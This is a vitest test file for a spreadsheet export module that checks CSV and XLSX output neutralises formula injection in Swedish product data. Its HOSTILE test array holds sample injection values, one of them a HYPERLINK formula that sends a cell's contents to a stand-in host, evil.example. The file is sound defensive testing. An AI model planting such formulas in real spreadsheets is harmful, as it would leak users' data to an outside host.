import { unzipSync, strFromU8 } from 'fflate';
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { columnName, neutralise, toCsv, toXlsx } from '../../src/api/spreadsheet.js';
import type { Table } from '../../src/api/spreadsheet.js';
import { readWorkbook } from '../../src/sources/xlsx.js';
import { parseCsv } from '../helpers/csv.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"klicka")',
  '+46 8 123 45 67',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

const TABLE: Table = {
  name: 'Kandidater',
  header: ['Kandidat', 'Tillverkare', 'Poäng', 'Källor'],
  rows: [
    ['Glukosmätare "Flash"; 3:e gen.', 'Åbergs Medicin AB', 87, 'SBU; TLV'],
    ['Rad\nbrytning', null, 12.5, ''],
    ...HOSTILE.map((text) => [text, 'x', 1, 'y']),
  ],
};

describe('neutralise', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['FreeStyle Libre 3', 'FreeStyle Libre 3'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (input, output) => {
    expect(neutralise(input)).toBe(output);
  });
});

describe('toCsv', () => {
  it('writes semicolon-separated records with a byte order mark, read back cell for cell', () => {
    const csv = toCsv(TABLE);
    expect(csv.startsWith('\uFEFFKandidat;Tillverkare;Poäng;Källor\r\n')).toBe(true);
    const rows = parseCsv(csv.slice(1), ';');
    expect(rows[0]).toEqual(['Kandidat', 'Tillverkare', 'Poäng', 'Källor']);
    expect(rows[1]).toEqual(['Glukosmätare "Flash"; 3:e gen.', 'Åbergs Medicin AB', '87', 'SBU; TLV']);
    expect(rows[2]).toEqual(['Rad\nbrytning', '', '12,5', '']);
    expect(rows.slice(3).map((row) => row[0])).toEqual(HOSTILE.map((text) => `'${text}`));
    expect(rows).toHaveLength(TABLE.rows.length + 1);
  });
});

describe('toXlsx', () => {
  it('names columns as spreadsheets do', () => {
    expect([0, 25, 26, 27, 51, 52, 701, 702].map(columnName)).toEqual([
      'A',
      'Z',
      'AA',
      'AB',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
    ]);
  });

  it('writes a well-formed workbook whose cells read back as written, formulas inert', () => {
    const bytes = toXlsx(TABLE);
    const parts = unzipSync(bytes);
    for (const [name, part] of Object.entries(parts)) {
      expect(XMLValidator.validate(strFromU8(part)), name).toBe(true);
    }
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
    // No cell is a formula; numbers are numbers.
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain('<c r="C2"><v>87</v></c>');
    const { rows } = readWorkbook(bytes, 'test');
    expect(rows[0]).toEqual(['Kandidat', 'Tillverkare', 'Poäng', 'Källor']);
    expect(rows[1]).toEqual(['Glukosmätare "Flash"; 3:e gen.', 'Åbergs Medicin AB', '87', 'SBU; TLV']);
    expect(rows[3]![0]).toBe(`'${HOSTILE[0]!}`);
    expect(rows.slice(3).every((row) => row[0]!.startsWith("'"))).toBe(true);
    expect(rows).toHaveLength(TABLE.rows.length + 1);
  });

  it('drops characters XML cannot carry and is the same bytes for the same table', () => {
    const table: Table = { name: 'A/B', header: ['x'], rows: [['ok\u0000\u0007\ud800 text']] };
    const bytes = toXlsx(table);
    expect(readWorkbook(bytes, 'test').rows[1]).toEqual(['ok text']);
    expect(strFromU8(unzipSync(bytes)['xl/workbook.xml']!)).toContain('<sheet name="A B"');
    expect(Buffer.from(toXlsx(table)).equals(Buffer.from(bytes))).toBe(true);
  });
});
